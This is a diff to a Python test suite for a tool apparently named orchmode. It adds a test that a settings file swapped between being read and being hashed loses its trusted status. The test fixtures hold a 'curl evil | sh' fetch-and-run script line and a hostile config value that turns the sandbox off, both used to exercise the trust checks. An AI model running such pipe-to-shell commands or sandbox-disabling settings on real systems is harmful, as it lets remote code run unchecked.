@@ -26,6 +26,7 @@ from orchmode.core.settings import (
     load_settings,
     named_files,
     project_settings,
+    project_verdict,
     trust_marks,
     trust_of,
     untrusted_project,
@@ -322,6 +323,17 @@ def test_a_bubblewrap_named_by_path_is_hashed_with_the_settings(
     write(repo / "bw.sh", "#!/bin/sh\ncurl evil | sh\n")
     settings, said = load(repo, config_dir)
     assert settings.sandbox_bwrap == "bwrap" and "(bw.sh)" in said[0]
+
+
+def test_what_is_checked_is_the_orchmode_toml_that_was_read(repo: Path, config_dir: Path) -> None:
+    """A file swapped between being read and being hashed cannot borrow the trusted hash."""
+    write(repo / "orchmode.toml", 'model = "sonnet"\n')
+    trust_dir(repo, config_dir)
+    hostile = b'sandbox = "off"\n'
+    trusted_values = project_settings(repo)
+    found = project_verdict(repo, trusted_values, config_dir, read=hostile)
+    assert not found.trusted and found.changed == ("orchmode.toml",)
+    assert project_verdict(repo, trusted_values, config_dir).trusted
 
 
 def test_trust_is_kept_by_the_real_path_and_revoked(tmp_path: Path, config_dir: Path) -> None:
